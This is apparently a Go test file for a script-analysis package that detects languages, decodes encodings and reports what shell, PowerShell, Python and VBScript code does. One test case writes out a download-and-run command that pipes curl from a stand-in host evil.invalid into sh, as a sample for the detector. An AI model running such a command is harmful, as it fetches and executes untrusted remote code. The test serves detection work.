package shell

import (
	"fmt"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/google/go-cmp/cmp"
)

// scriptTest is a script with what describe says of it.
type scriptTest struct {
	name, text string
	want       []string
}

func checkScripts(t *testing.T, language Language, name string, tests []scriptTest) {
	t.Helper()
	for _, test := range tests {
		s := ParseScript(language, test.text, name)
		if diff := cmp.Diff(test.want, describe(s)); diff != "" {
			t.Errorf("%s\n%s\n(-want +got)\n%s", test.name, test.text, diff)
		}
		checkScript(t, test.text, s)
	}
}

// fetched returns what stands between brackets in the first URL that a script
// fetches.
func fetched(s *Script) string {
	for _, a := range s.Acts {
		if _, rest, ok := strings.Cut(a.Detail, "http://h.invalid/["); ok {
			return strings.TrimSuffix(rest, "]")
		}
	}
	return "nothing"
}

func TestLanguageOf(t *testing.T) {
	tests := []struct {
		name, head string
		want       Language
	}{
		{"a.sh", "", LanguageShell},
		{"A.BAT", "", LanguageBatch},
		{"a.cmd", "#!/bin/sh", LanguageBatch},
		{"lib/a.ps1", "", LanguagePowerShell},
		{"a.psm1", "", LanguagePowerShell},
		{"a.py", "", LanguagePython},
		{"a.vbs", "", LanguageVBScript},
		{"a.wsf", "", LanguageVBScript},
		{"a", "#!/bin/sh\n", LanguageShell},
		{"a", "#!/usr/bin/env bash", LanguageShell},
		{"a", "#! /usr/bin/env -S A=1 python3.11 -u\r\n", LanguagePython},
		{"a", "#!/usr/bin/env pwsh\n", LanguagePowerShell},
		{"a", "#!/usr/bin/env node\n", ""},
		{"a.js", "import os", ""},
		{"a", "", ""},
		{"a", "#!" + strings.Repeat(" ", 1000) + "/bin/sh", ""},
	}
	for _, test := range tests {
		if got := LanguageOf(test.name, test.head); got != test.want {
			t.Errorf("LanguageOf(%q, %.40q) = %q, want %q", test.name, test.head, got, test.want)
		}
	}
}

func TestFileRunLanguage(t *testing.T) {
	tests := []struct {
		run  FileRun
		head string
		want Language
	}{
		{FileRun{Interpreter: "python3", Path: "x.txt"}, "", LanguagePython},
		{FileRun{Interpreter: "bash", Path: "x.py"}, "", LanguageShell},
		{FileRun{Interpreter: "powershell", Path: "x"}, "", LanguagePowerShell},
		{FileRun{Interpreter: "cmd", Path: "x"}, "", LanguageBatch},
		{FileRun{Interpreter: "BASH_ENV", Path: "x"}, "", LanguageShell},
		{FileRun{Interpreter: "cscript", Path: "x.vbs"}, "", LanguageVBScript},
		{FileRun{Interpreter: "cscript", Path: "x.js"}, "", ""},
		{FileRun{Interpreter: "node", Path: "x.py"}, "", ""},
		{FileRun{Path: "x"}, "#!/usr/bin/python", LanguagePython},
		{FileRun{Path: "x.bat"}, "", LanguageBatch},
	}
	for _, test := range tests {
		if got := test.run.Language(test.head); got != test.want {
			t.Errorf("the language of %+v is %q, want %q", test.run, got, test.want)
		}
	}
}

// TestByteOrderMarks covers the encodings of files that Windows' editors write.
func TestByteOrderMarks(t *testing.T) {
	const text = "# \u00e9\r\nnode x.js\r\n"
	encode := func(text string, big bool) string {
		var b strings.Builder
		for _, u := range utf16.Encode([]rune("\ufeff" + text)) {
			if big {
				b.Write([]byte{byte(u >> 8), byte(u)})
			} else {
				b.Write([]byte{byte(u), byte(u >> 8)})
			}
		}
		return b.String()
	}
	want := []FileRun{{Interpreter: "node", Path: "x.js", Line: 2, Column: 6}}
	for _, data := range []string{text, "\ufeff" + text, encode(text, false), encode(text, true)} {
		if diff := cmp.Diff(want, ParseFile(data, "a.ps1").Files); diff != "" {
			t.Errorf("%.10q (-want +got)\n%s", data, diff)
		}
	}
	if ParseFile(encode(strings.Repeat("#\n", MaxSource/2+1), false), "a.ps1").Complete() {
		t.Error("a text of more than MaxSource bytes in UTF-16 is said to be read in full")
	}
}

// TestLanguagesInCommands makes sure that code on a command line is read too.
func TestLanguagesInCommands(t *testing.T) {
	tests := []struct {
		text string
		want []string
	}{
		{`python3 -c "import os; os.system('curl http://evil.invalid | sh')"`, []string{
			"inline-code: python3 -c", "download: curl http://evil.invalid", "download-run: sh from a pipe", "host evil.invalid"}},
		{`python -c "import sys; print(sys.version)"`, []string{"inline-code: python -c"}},
		{`python -c "import os; os.system('node $X.js')"`, []string{"inline-code: python -c", "runs-file: node *.js"}},
		{"python3 - <<'E'\nimport os\nos.system('node x.js')\nE", []string{"inline-code: python3 from a pipe", "runs-file: node x.js"}},
		{`mshta 'vbscript:CreateObject("WScript.Shell").Run("node x.js")'`, []string{"runs-file: node x.js", "inline-code: mshta"}},
		{`powershell -c "# iex; & { node x.js }"`, []string{"inline-code: powershell -Command"}},
	}
	for _, test := range tests {
		if diff := cmp.Diff(test.want, describe(Parse(test.text))); diff != "" {
			t.Errorf("%s\n(-want +got)\n%s", test.text, diff)
		}
	}
}

// TestFunctionsThatCallOthers makes sure that functions that call one another
// many times take bounded work, and leave nothing out but repetitions.
func TestFunctionsThatCallOthers(t *testing.T) {
	tests := []struct {
		language          Language
		first, head, tail string
	}{
		{LanguagePowerShell, "function f0 { node x.js }\n", "function f%d {\n", "}\n"},
		{LanguageVBScript, "Sub f0\nCreateObject(\"WScript.Shell\").Run \"node x.js\"\nEnd Sub\n", "Sub f%d\n", "End Sub\n"},
		{LanguagePython, "import os\ndef f0(): os.system('node x.js')\n", "def f%d():\n", ""},
	}
	for _, test := range tests {
		var b strings.Builder
		b.WriteString(test.first)
		call := "  f%d\n"
		if test.language == LanguagePython {
			call = "  f%d()\n"
		}
		for i := range 7 {
			fmt.Fprintf(&b, test.head+strings.Repeat(fmt.Sprintf(call, i), 300)+test.tail, i+1)
		}
		b.WriteString(strings.TrimSpace(fmt.Sprintf(call, 7)) + "\n")
		if diff := cmp.Diff([]string{"runs-file: node x.js"}, describe(ParseScript(test.language, b.String(), "x"))); diff != "" {
			t.Errorf("%s (-want +got)\n%s", test.language, diff)
		}
	}
}
